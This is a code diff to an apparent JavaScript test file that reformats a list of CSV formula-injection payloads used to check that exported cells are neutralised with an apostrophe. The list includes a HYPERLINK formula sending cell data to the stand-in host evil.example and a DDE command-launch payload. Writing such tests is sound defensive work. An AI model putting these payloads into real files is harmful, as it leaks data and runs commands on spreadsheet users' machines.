@@ -6,7 +6,15 @@ import { ManualClock } from '../../src/core/clock.js';
 import { toCsv } from '../../src/core/csv.js';
 import { eachDatabase, servicesOn } from '../support/helpers.js';
 
-const FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '＝1+1'];
+const FORMULAS = [
+  '=HYPERLINK("https://evil.example/?"&A1,"click")',
+  "+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(A1:A9)',
+  '\t=1+1',
+  '\r=1+1',
+  '＝1+1',
+];
 
 test('CSV cells that a spreadsheet would run as a formula are neutralised with an apostrophe; other cells and numbers stay as they are', () => {
   const rows = [...FORMULAS, 'plain', 'a=b', 'ok - fine', ''].map((value, i) => ({ id: i - 1, value }));
